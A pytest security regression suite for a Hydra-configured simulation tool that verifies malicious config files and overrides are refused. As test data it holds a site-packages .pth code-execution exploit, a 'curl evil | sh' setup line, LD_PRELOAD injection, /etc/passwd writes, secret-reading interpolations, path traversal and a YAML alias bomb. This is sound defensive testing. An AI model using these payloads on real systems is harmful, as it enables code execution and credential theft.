"""Security and data safety (issue 15): a config is data, never code; a run never deletes or
overwrites what it did not write; manifests tell the truth; bad files fail in one line.

Each test reproduces an attack or accident from the issue and fails without its fix."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from sim.__main__ import USER_ERRORS, prevalidate
from sim.config.errors import ConfigError
from sim.config.safety import (
    MAX_FILE_BYTES,
    check_interpolations,
    check_log_files,
    check_target,
    slug,
)

ROOT = Path(__file__).resolve().parents[1]
TINY = ["territory=tiny", "horizon_months=1", "progress=false"]
SITE = next(p for p in sys.path if p.endswith("site-packages"))
# The issue's exploit: a `.pth` file in site-packages runs at the next Python start.
SAVETXT = ("# @package _global_\nhydra:\n  callbacks:\n    evil:\n"
           "      _target_: sim.model.np.savetxt\n"
           f"      fname: {SITE}/zz_ess_pwned.pth\n      X: [[1]]\n"
           "      fmt: 'import os;os.system(\"touch /tmp/ess_pwned\")#%d'\n"
           "scenario:\n  name: evil\n")
LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{n}: &{n} [{','.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))


def _user_dir(root: Path, name: str, content: str | bytes, group: str = "scenario") -> Path:
    """A user's --config-dir holding one file, `<group>/<name>.yaml`."""
    folder = root / f"dir_{name}"
    (folder / group).mkdir(parents=True)
    data = content if isinstance(content, bytes) else content.encode()
    (folder / group / f"{name}.yaml").write_bytes(data)
    return folder


def _refused(argv: list[str], field: str) -> str:
    with pytest.raises(USER_ERRORS) as caught:
        prevalidate(argv)
    message = str(caught.value)
    assert "\n" not in message and field in message, message
    return message


def _cli(args: list[str], cwd: Path, module: str = "sim", timeout: int = 240):
    env = {k: v for k, v in os.environ.items() if k != "ESS_SIM_DEBUG"}
    env["PYTHONPATH"] = str(ROOT)
    return subprocess.run([sys.executable, "-m", module, *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=timeout)


def _one_line_error(done: subprocess.CompletedProcess, code: int = 2) -> str:
    assert done.returncode == code, (done.returncode, done.stderr[-2000:])
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), done.stderr[-2000:]
    return lines[0]


# --- 1. the trust boundary ------------------------------------------------------------------

@pytest.mark.parametrize("target", [
    "sim.model.np.savetxt",           # through a module's imports: numpy.savetxt
    "sim.config.compose.os.system",
    "logging.os.system",
    "numpy.savetxt",
    "builtins.eval",
    "sim.experiments.callbacks.json.dump",
    "sim.experiments.callbacks.ExperimentCallback.__init__.__globals__",
    "hydra._internal.utils._locate",
    "hydra_plugins.hydra_ray_launcher.ray_aws_launcher.RayAWSLauncher",
    "sim..model",
    "sim.experiments.__main__.main",  # importing it would start a sweep
])
def test_targets_resolve_to_an_allowed_callable_or_are_refused(target):
    with pytest.raises(ConfigError, match="not allowed"):
        check_target("hydra.callbacks.x._target_", target)


@pytest.mark.parametrize("target", [
    "sim.experiments.callbacks.ExperimentCallback",
    "hydra._internal.core_plugins.basic_launcher.BasicLauncher",
    "hydra_plugins.ess_sim.resilient_joblib_launcher.ResilientJoblibLauncher",
])
def test_the_project_targets_are_allowed(target):
    check_target("x._target_", target)


def test_checking_a_target_imports_no_module_outside_the_allowed_ones():
    before = set(sys.modules)
    for target in ("sim.experiments.__main__.main", "antigravity.x", "sim.dashboard.app.x"):
        with pytest.raises(ConfigError):
            check_target("x._target_", target)
    assert not {"sim.experiments.__main__", "antigravity", "sim.dashboard.app"} & (
        set(sys.modules) - before)


def test_the_savetxt_exploit_from_a_scenario_file_is_refused(tmp_path):
    folder = _user_dir(tmp_path, "evil", SAVETXT)
    _refused(["--config-dir", str(folder), "scenario=evil"], "hydra.callbacks")
    _refused(["+hydra.callbacks.evil._target_=sim.model.np.savetxt"], "_target_")
    assert not Path(SITE, "zz_ess_pwned.pth").exists()


@pytest.mark.parametrize(("content", "field"), [
    ("# @package _global_\nhydra:\n  job:\n    env_set:\n      LD_PRELOAD: /x.so\n",
     "hydra.job.env_set"),
    ("# @package _global_\nhydra:\n  job_logging:\n    handlers:\n      file:\n"
     "        filename: /tmp/elsewhere.log\n", "hydra.job_logging"),
    ("# @package _global_\ndefaults:\n  - override /hydra/launcher: submitit_slurm\n"
     "hydra:\n  launcher:\n    setup: ['curl evil | sh']\n", "hydra.launcher.setup"),
    ("# @package hydra.job\nname: x\n", "hydra.job.name"),
    ("defaults:\n  - /hydra/job_logging@_global_.hydra.hydra_logging: default\n  - _self_\n"
     "name: placed\n", "hydra.hydra_logging"),
])
def test_scenario_files_cannot_set_hydra_keys(tmp_path, content, field):
    folder = _user_dir(tmp_path, "f", content)
    message = _refused(["--config-dir", str(folder), "scenario=f"], field)
    assert "allowed" in message


@pytest.mark.parametrize(("group", "content", "field"), [
    ("hydra/job_logging", "version: 1\nhandlers:\n  f:\n    class: logging.FileHandler\n"
     "    filename: /tmp/elsewhere.log\nroot:\n  handlers: [f]\n", "hydra.job_logging"),
    ("hydra/launcher", "_target_: sim.model.np.savetxt\n", "hydra.launcher._target_"),
])
def test_a_users_config_chosen_for_a_hydra_group_is_refused(tmp_path, group, content, field):
    folder = _user_dir(tmp_path, "mine", content, group=group)
    _refused(["--config-dir", str(folder), f"{group}=mine"], field)


def test_a_manifest_cannot_bring_a_resolver_or_write_into_a_system_folder(tmp_path, capsys):
    from sim.api import run_to_directory
    from sim.config import compose_config
    from sim.replay import main as replay_main

    run_to_directory(compose_config(TINY), tmp_path / "run")
    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
    manifest["config"]["territory"]["label"] = "${oc.env:HOME}"
    (tmp_path / "run" / "evil.json").write_text(json.dumps(manifest))
    assert replay_main([str(tmp_path / "run" / "evil.json"), "--out", str(tmp_path / "x")]) == 2
    assert "oc.env" in capsys.readouterr().err
    assert replay_main([str(tmp_path / "run" / "manifest.json"), "--out", "/usr/ess_x"]) == 2
    assert not Path("/usr/ess_x").exists()


def test_scenario_files_may_set_the_documented_hydra_keys(tmp_path):
    folder = _user_dir(tmp_path, "ok", "# @package _global_\ndefaults:\n"
                       "  - override /hydra/launcher: joblib\nhydra:\n  sweep:\n"
                       "    dir: sweeps/mine\n    subdir: ${hydra.job.num}\n  verbose: false\n"
                       "  hydra_logging:\n    loggers:\n      hydra:\n        level: WARNING\n"
                       "scenario:\n  name: ok\n")
    prevalidate(["--config-dir", str(folder), "scenario=ok"])


def test_every_swept_scenario_file_is_checked_before_a_sweep_starts(tmp_path):
    folder = _user_dir(tmp_path, "fine", "name: fine\n")
    (folder / "scenario" / "evil.yaml").write_text(
        "# @package _global_\nhydra:\n  job:\n    env_set:\n      LD_PRELOAD: /x.so\n")
    _refused(["-m", "--config-dir", str(folder), "scenario=fine,evil"], "hydra.job.env_set")
    _refused(["-m", "hydra.job.name=ok,../../x"], "hydra.job.name")
    _refused(["-m", "territory.label=a,../../../x", "hydra.sweep.subdir=${territory.label}"],
             "hydra.sweep.subdir")


@pytest.mark.parametrize(("argv", "field"), [
    (["+hydra.job_logging.handlers.evil={class:logging.FileHandler,filename:/tmp/x,mode:w}"],
     "hydra.job_logging.handlers.evil.filename"),
    (["hydra.job_logging.handlers.file.filename=/tmp/victim.txt"], "filename"),
    (["hydra.job_logging.handlers.console.class=logging.handlers.SMTPHandler"], "class"),
    (["hydra.job_logging.handlers.console.stream=ext://os.system"], "stream"),
    (["+hydra.job_logging.handlers.console.mailhost=evil"], "mailhost"),
    (["+hydra.job_logging.formatters.simple.()=os.system"], "()"),
    (["hydra.hydra_logging.handlers.console.class=logging.FileHandler",
      "+hydra.hydra_logging.handlers.console.filename=/etc/passwd"], "filename"),
])
def test_logging_is_limited_to_known_handlers_inside_the_run_folder(argv, field):
    _refused(argv, field)


def test_a_log_file_opened_with_mode_w_never_truncates_an_existing_file(tmp_path):
    from sim.config import compose_config

    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "kept.log").write_text("precious")
    cfg = compose_config(["hydra.job_logging.handlers.file.filename="
                          "${hydra.runtime.output_dir}/kept.log",
                          "+hydra.job_logging.handlers.file.mode=w"], keep_hydra=True)
    with pytest.raises(ConfigError, match="truncate"):
        check_log_files(cfg, tmp_path / "job")
    check_log_files(cfg, tmp_path / "other")  # a new file: allowed


@pytest.mark.parametrize("text", [
    "${oc.${scenario.name}:SECRET_TOKEN}",
    "${oc.select:x,${oc.env:SECRET_TOKEN}}",
    "${now:${oc.env:SECRET_TOKEN}}",
    "a ${b} ${oc.decode:'1'}",
    "${oc.env:SECRET_TOKEN",
])
def test_resolvers_are_checked_after_parsing_the_whole_interpolation(text):
    with pytest.raises(ConfigError):
        check_interpolations("territory.label", text)


def test_the_nested_resolver_bypass_from_a_scenario_file_is_refused(tmp_path):
    folder = tmp_path / "user"
    (folder / "scenario").mkdir(parents=True)
    (folder / "scenario" / "env.yaml").write_text(
        "# @package _global_\nscenario:\n  name: env\nterritory:\n"
        "  label: ${oc.${scenario.name}:SECRET_TOKEN}\n")
    _refused(["--config-dir", str(folder), "scenario=env"], "territory.label")
    _refused(["territory.label='${oc.select:x,${oc.env:SECRET_TOKEN}}'"], "territory.label")


@pytest.mark.parametrize(("flag", "value"), [("--experimental-rerun", "x.pickle"),
                                             ("--config-path", "/tmp"), ("-cn", "other")])
def test_flags_that_load_code_or_another_config_tree_are_refused(flag, value):
    _refused([flag, value], flag)


# --- 3. paths ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("argv", "field"), [
    (["hydra.run.dir=/"], "hydra.run.dir"),
    (["hydra.run.dir=/etc"], "hydra.run.dir"),
    (["hydra.run.dir=/usr/local/x"], "hydra.run.dir"),
    ([f"hydra.run.dir={sys.prefix}/runs"], "hydra.run.dir"),
    (["-m", "seed=1,2", "hydra.sweep.dir=/"], "hydra.sweep.dir"),
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set"),
    (["hydra.job.name=../../x"], "hydra.job.name"),
    (["-m", "seed=1,2", "hydra.sweep.subdir=../../x"], "hydra.sweep.subdir"),
    (["hydra.output_subdir=../../x"], "hydra.output_subdir"),
    (["hydra.searchpath=[pkg://os]"], "hydra.searchpath"),
    (["scenario@hydra.job_logging=central"], "scenario@hydra.job_logging"),
])
def test_system_folders_environment_and_escaping_names_are_refused(argv, field):
    _refused(argv, field)


def test_labels_become_one_safe_folder_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder, _ = prevalidate(["territory=tiny", "territory.label=x/../../../../elsewhere/esc"])
    assert folder.parent == (tmp_path / "outputs" / "runs").resolve()
    assert "/" not in slug("a/../b") and not slug("..").startswith(".")


# --- 2. never delete what the run did not create ---------------------------------------------

def test_the_issue_sweep_into_an_existing_folder_deletes_nothing(tmp_path):
    user = tmp_path / "mine"
    user.mkdir()
    (user / "thesis.tex").write_text("years of work")
    done = _cli(["-m", *TINY, "horizon_months=1,0", f"hydra.sweep.dir={user}",
                 "hydra.sweep.subdir=."], tmp_path)
    _one_line_error(done)
    done = _cli(["-m", *TINY, "horizon_months=1,0", f"hydra.sweep.dir={user}"], tmp_path)
    assert "already holds files" in _one_line_error(done)
    assert sorted(p.name for p in user.iterdir()) == ["thesis.tex"]
    assert (user / "thesis.tex").read_text() == "years of work"


def test_a_failed_job_in_a_sweep_removes_only_its_own_outputs(tmp_path):
    sweep = tmp_path / "sweep"
    done = _cli(["-m", *TINY, "horizon_months=1,0", f"hydra.sweep.dir={sweep}"], tmp_path)
    assert done.returncode == 1, done.stderr[-2000:]  # a run failed: named, with the resume
    first = json.loads((sweep / "0" / "manifest.json").read_text())
    second = json.loads((sweep / "1" / "manifest.json").read_text())
    assert first["status"] == "complete" and (sweep / "0" / "events.parquet").is_file()
    assert second["status"] == "failed" and "horizon_months" in second["error"]
    assert not list((sweep / "1").glob("*.parquet"))


def test_concurrent_runs_into_one_folder_the_second_is_refused(tmp_path):
    from sim.outputs import RunFolderLock

    held = RunFolderLock(tmp_path / "run", "hydra.run.dir")
    try:
        done = _cli([*TINY, f"hydra.run.dir={tmp_path / 'run'}"], tmp_path)
        assert "in use by another run" in _one_line_error(done)
        with pytest.raises(ConfigError, match="in use"):
            RunFolderLock(tmp_path / "run", "hydra.run.dir")
    finally:
        held.release()
    RunFolderLock(tmp_path / "run", "hydra.run.dir").release()  # free again


def test_a_run_never_writes_over_an_earlier_runs_folder(tmp_path):
    from sim.api import run_to_directory
    from sim.config import compose_config

    run_to_directory(compose_config([*TINY, "seed=1"]), tmp_path / "run")
    before = {p.name: p.read_bytes() for p in (tmp_path / "run").iterdir()}
    done = _cli([*TINY, "seed=2", f"hydra.run.dir={tmp_path / 'run'}"], tmp_path)
    assert "holds an earlier run's files" in _one_line_error(done)
    assert {p.name: p.read_bytes() for p in (tmp_path / "run").iterdir()} == before


def test_a_run_into_a_folder_it_does_not_own_is_refused(tmp_path):
    from sim.api import run_to_directory
    from sim.config import compose_config
    from sim.outputs import RunFolderLock

    (tmp_path / "notes.txt").write_text("keep")
    with pytest.raises(ConfigError, match="already holds files"):
        run_to_directory(compose_config(TINY), tmp_path)
    with pytest.raises(ConfigError, match="cannot create the folder"):
        RunFolderLock(tmp_path / "notes.txt", "hydra.run.dir")  # a file, not a folder
    assert [p.name for p in tmp_path.iterdir()] == ["notes.txt"]
    assert (tmp_path / "notes.txt").read_text() == "keep"


# --- 4. manifests tell the truth ----------------------------------------------------------------

def test_a_reused_folder_interrupted_mid_write_never_looks_complete(tmp_path, monkeypatch):
    from sim import outputs
    from sim.api import run_to_directory
    from sim.config import compose_config

    run_to_directory(compose_config([*TINY, "seed=1"]), tmp_path / "run")
    written = []

    def killed_after_one_table(frame, path):
        if written:
            raise KeyboardInterrupt  # the process is stopped mid-write
        written.append(path)
        original(frame, path)

    original = outputs.write_parquet
    monkeypatch.setattr(outputs, "write_parquet", killed_after_one_table)
    with pytest.raises(KeyboardInterrupt):
        run_to_directory(compose_config([*TINY, "seed=2"]), tmp_path / "run")
    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
    assert manifest["status"] != "complete"


def test_replay_verifies_the_files_on_disk(tmp_path, capsys):
    from sim.api import run_to_directory
    from sim.config import compose_config
    from sim.replay import main as replay_main

    run_to_directory(compose_config(TINY), tmp_path / "run")
    manifest = tmp_path / "run" / "manifest.json"
    assert replay_main([str(manifest), "--verify-only"]) == 0
    run_to_directory(compose_config([*TINY, "seed=7"]), tmp_path / "other")
    os.replace(tmp_path / "other" / "timeseries.parquet", tmp_path / "run" / "timeseries.parquet")
    (tmp_path / "run" / "summary.json").unlink()
    capsys.readouterr()
    assert replay_main([str(manifest), "--out", str(tmp_path / "again")]) == 1
    printed = capsys.readouterr().out
    assert "on disk  DIFFERENT  timeseries.parquet" in printed
    assert "on disk  missing    summary.json" in printed
    assert "replay   identical  timeseries.parquet" in printed  # the replay itself matches


def _disk_full(*_, **__):
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_write_error_gives_one_line_a_failed_manifest_and_no_table(tmp_path, monkeypatch):
    from sim import outputs
    from sim.api import run_to_directory
    from sim.config import compose_config

    original = outputs.write_parquet
    calls = []

    def full_after_one(frame, path):
        calls.append(path)
        if len(calls) > 1:
            _disk_full()
        original(frame, path)

    monkeypatch.setattr(outputs, "write_parquet", full_after_one)
    with pytest.raises(outputs.OutputWriteError) as caught:
        run_to_directory(compose_config(TINY), tmp_path / "run")
    assert "\n" not in str(caught.value) and "No space left" in str(caught.value)
    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
    assert manifest["status"] == "failed" and manifest["checksums"] == {}
    assert not list((tmp_path / "run").glob("*.parquet*"))


# In a child process: parquet writes of one run fail as on a full disk.
FULL_DISK_FOR = """
import errno, sys
import sim.outputs as outputs
original = outputs.write_parquet
def write_parquet(frame, path):
    if {marker!r} in str(path):
        raise OSError(errno.ENOSPC, "No space left on device")
    original(frame, path)
outputs.write_parquet = write_parquet
sys.argv = [sys.argv[0], *{argv!r}]
from {module} import main
main()
"""


def test_a_write_error_on_the_command_line_is_one_line(tmp_path):
    code = FULL_DISK_FOR.format(marker="run", argv=[*TINY, f"hydra.run.dir={tmp_path}/run"],
                                module="sim.__main__")
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True,
                          text=True, timeout=240, env=os.environ | {"PYTHONPATH": str(ROOT)})
    assert "No space left on device" in _one_line_error(done, 1)
    assert json.loads((tmp_path / "run" / "manifest.json").read_text())["status"] == "failed"


def test_a_write_error_in_a_sweep_is_recorded_and_the_sweep_ends_with_its_report(tmp_path):
    sweep = tmp_path / "sweep"
    argv = ["+experiment=compare", "experiment.backend=synthetic", "hydra/launcher=basic",
            "arm=baseline,land_trust", "seed=range(0,2)", f"hydra.sweep.dir={sweep}"]
    code = FULL_DISK_FOR.format(marker="land_trust/seed=0", argv=argv,
                                module="sim.experiments.runner")
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True,
                          text=True, timeout=300, env=os.environ | {"PYTHONPATH": str(ROOT)})
    assert done.returncode == 1, done.stderr[-3000:]  # a run failed: named, with the resume
    assert "Report:" in done.stdout
    assert "error: 1 of 4 runs did not complete (arm=land_trust seed=0 failed: " in done.stderr
    failed = json.loads((sweep / "runs" / "arm=land_trust" / "seed=0" / "status.json").read_text())
    assert failed["status"] == "failed" and "No space left" in failed["error"]
    statuses = [json.loads(p.read_text())["status"] for p in sweep.rglob("status.json")]
    assert sorted(statuses) == ["complete", "complete", "complete", "failed"]


def test_a_sweep_run_whose_status_cannot_be_written_does_not_stop_the_sweep(tmp_path,
                                                                               monkeypatch):
    from sim.experiments import runner
    from sim.experiments.arms import ArmSpec
    from sim.experiments.synthetic import run as synthetic_run

    spec = runner.RunSpec(ArmSpec("baseline", (), ()), 0, ("seed=0",))
    monkeypatch.setattr(runner, "write_json", _disk_full)
    monkeypatch.setattr("sim.outputs.write_json", _disk_full)
    record = runner.execute_run(tmp_path / "r", spec, synthetic_run, "synthetic", tmp_path)
    assert record["status"] == "failed" and "No space left" in record["error"]
    assert runner.read_status(tmp_path / "r") is None  # no status saying running or complete


# --- 5. limits ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "words"), [
    (LAUGHS, "aliases expand"),
    (bytes(range(256)) * 20, "not a text file"),
    ("name: big\n" + "#" * (MAX_FILE_BYTES + 1) + "\n", "bytes"),
    ("name: x\n\x00\n", "not a text file"),
])
def test_resource_bombs_and_garbage_are_refused_quickly_in_one_line(tmp_path, content, words):
    folder = _user_dir(tmp_path, "bomb", content)
    started = time.perf_counter()
    message = _refused(["--config-dir", str(folder), "scenario=bomb"], "config file")
    assert words in message and time.perf_counter() - started < 20


def test_binary_garbage_as_a_scenario_on_the_command_line(tmp_path):
    folder = _user_dir(tmp_path, "garbage", os.urandom(4096))
    done = _cli(["--config-dir", str(folder), "scenario=garbage", *TINY], tmp_path)
    assert "not a text file" in _one_line_error(done)
    assert not (tmp_path / "outputs").exists()


def test_an_experiment_sweep_from_before_markers_can_still_be_resumed(tmp_path):
    from sim.experiments.runner import SWEEP_INFO, _adopt_earlier_sweep
    from sim.outputs import MARKER, RunFolderLock

    (tmp_path / "old" / "runs").mkdir(parents=True)
    (tmp_path / "old" / SWEEP_INFO).write_text("{}")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("keep")
    for folder in (tmp_path / "old", tmp_path / "mine"):
        _adopt_earlier_sweep(folder)
    RunFolderLock(tmp_path / "old", "hydra.sweep.dir", reuse=True).release()
    assert not (tmp_path / "mine" / MARKER).exists()
    with pytest.raises(ConfigError, match="did not write"):
        RunFolderLock(tmp_path / "mine", "hydra.sweep.dir", reuse=True)


@pytest.mark.parametrize("source", ["/dev/zero", "/etc/passwd", "folder", "garbage"])
def test_replay_of_a_file_that_is_not_a_manifest_is_one_line(tmp_path, capsys, source):
    from sim.replay import main as replay_main

    (tmp_path / "folder").mkdir()
    (tmp_path / "garbage").write_bytes(os.urandom(2000))
    path = source if source.startswith("/") else str(tmp_path / source)
    assert replay_main([path, "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: manifest")
